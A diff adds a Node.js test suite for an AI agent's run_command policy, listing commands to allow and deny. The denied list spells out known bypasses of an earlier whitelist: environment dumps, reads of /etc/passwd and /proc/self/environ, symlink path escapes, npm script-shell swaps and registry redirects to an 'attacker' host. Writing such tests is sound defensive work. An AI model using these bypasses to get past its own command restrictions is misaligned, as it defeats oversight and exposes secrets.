@@ -0,0 +1,151 @@
+/**
+ * COMMAND POLICY TESTS
+ *
+ * Allow/deny decisions for run_command arguments, including the known
+ * bypasses of the old name-only whitelist. Run with `npm test`.
+ */
+
+const test = require("node:test");
+const assert = require("node:assert");
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+
+const PROJECT_ROOT = fs.mkdtempSync(path.join(os.tmpdir(), "command-policy-test-"));
+process.env.AGENT_COMMAND_AUDIT_LOG = path.join(PROJECT_ROOT, "audit.jsonl");
+
+const filesystem = require("./filesystem.js");
+const policy = require("./command-policy.js");
+
+// Project with one installed binary, a file and a symlink out of the project
+fs.mkdirSync(path.join(PROJECT_ROOT, "node_modules", ".bin"), { recursive: true });
+fs.writeFileSync(path.join(PROJECT_ROOT, "node_modules", ".bin", "tsc"), "");
+fs.writeFileSync(path.join(PROJECT_ROOT, "script.js"), "");
+fs.symlinkSync(os.tmpdir(), path.join(PROJECT_ROOT, "outside"));
+filesystem.initialize(PROJECT_ROOT);
+policy.initialize(PROJECT_ROOT);
+
+test.after(() => fs.rmSync(PROJECT_ROOT, { recursive: true, force: true }));
+
+const check = (commandLine) => {
+  const [command, ...args] = commandLine.split(" ");
+  return policy.checkCommand(command, args);
+};
+
+const allowed = [
+  "node script.js --watch=false",
+  "npx tsc --noEmit",
+  "npm install",
+  "npm ci --no-audit",
+  "npm uninstall left-pad",
+  "npm run build",
+  "npm test -- --runInBand",
+  "pnpm install --frozen-lockfile",
+  "yarn install",
+  "bun install",
+  "git status",
+  "git log --oneline -5",
+  "git branch",
+  "git branch -a",
+  "git branch --list",
+  "git branch --show-current",
+  "git branch --merged main",
+  "git blame script.js",
+  "git blame --contents script.js script.js",
+  "find src -name *.ts",
+  "grep -rn useState src",
+  "ls -la",
+  "cat script.js",
+  "head -n 20 script.js",
+];
+
+const denied = [
+  // Eval and arbitrary packages
+  "node -e process.exit()",
+  "node --eval=1",
+  "node -pe 1",
+  "npx left-pad",
+  "npx -y create-next-app",
+  "npx ../node_modules/.bin/tsc",
+  // Destructive flags
+  "find . -delete",
+  "find -L / -name x",
+  "find src -exec rm {} ;",
+  "git branch -D main",
+  "git branch -fD main",
+  "git push --force",
+  // Environment dumps and shells
+  "env",
+  "printenv",
+  "bash -c env",
+  "/usr/bin/env",
+  // Path escapes
+  "cat ../secret",
+  "cat /etc/passwd",
+  "ls outside",
+  "grep -f /etc/passwd x",
+  "head -n 5 ../../etc/hosts",
+  "git blame --contents /proc/self/environ script.js",
+  "git blame --contents=/etc/passwd script.js",
+  "git blame --contents outside script.js",
+  "git blame -S /etc/passwd script.js",
+  // Abbreviated long flags
+  "npm install --glob",
+  "npm install --globa=true",
+  // Installing packages lands binaries in node_modules/.bin for npx
+  "npm install left-pad",
+  "npm i left-pad",
+  "npm ci left-pad",
+  "npm add left-pad",
+  "pnpm add left-pad",
+  "pnpm install left-pad",
+  "yarn add left-pad",
+  "bun add left-pad",
+  // Script shell swaps run the program of our choice
+  "npm run build --script-shell=printenv",
+  "npm run build --script-shell printenv",
+  "npm install --script-shell=printenv",
+  "npm run build --userconfig=.npmrc",
+  "npm install --globalconfig=.npmrc",
+  "pnpm run build --script-shell=printenv",
+  "yarn run build --use-yarnrc=.yarnrc",
+  // Scoped registries
+  "npm install --@acme:registry=http://attacker",
+  "npm ci --@acme:registry http://attacker",
+  "pnpm install --@acme:registry=http://attacker",
+  // Dotted config keys
+  "pnpm install --config.registry=http://attacker",
+  "pnpm run build --config.script-shell=printenv",
+  // git branch must not create refs
+  "git branch evil",
+  "git branch --list evil",
+  // Prototype keys are not commands
+  "constructor",
+  "npm toString",
+];
+
+for (const commandLine of allowed) {
+  test(`allows ${commandLine}`, () => {
+    const decision = check(commandLine);
+    assert.strictEqual(decision.allowed, true, decision.reason);
+  });
+}
+
+for (const commandLine of denied) {
+  test(`denies ${commandLine}`, () => {
+    assert.strictEqual(check(commandLine).allowed, false);
+  });
+}
+
+test("names the tool to use for blocked commands", () => {
+  assert.match(check("rm -rf src").reason, /delete_path/);
+  assert.match(check("git commit -m x").reason, /git_commit/);
+});
+
+test("appends every decision to the audit log", () => {
+  check("ls");
+  const entries = fs.readFileSync(process.env.AGENT_COMMAND_AUDIT_LOG, "utf8").trim().split("\n").map((line) => JSON.parse(line));
+  const last = entries[entries.length - 1];
+  assert.strictEqual(last.command, "ls");
+  assert.strictEqual(last.allowed, true);
+});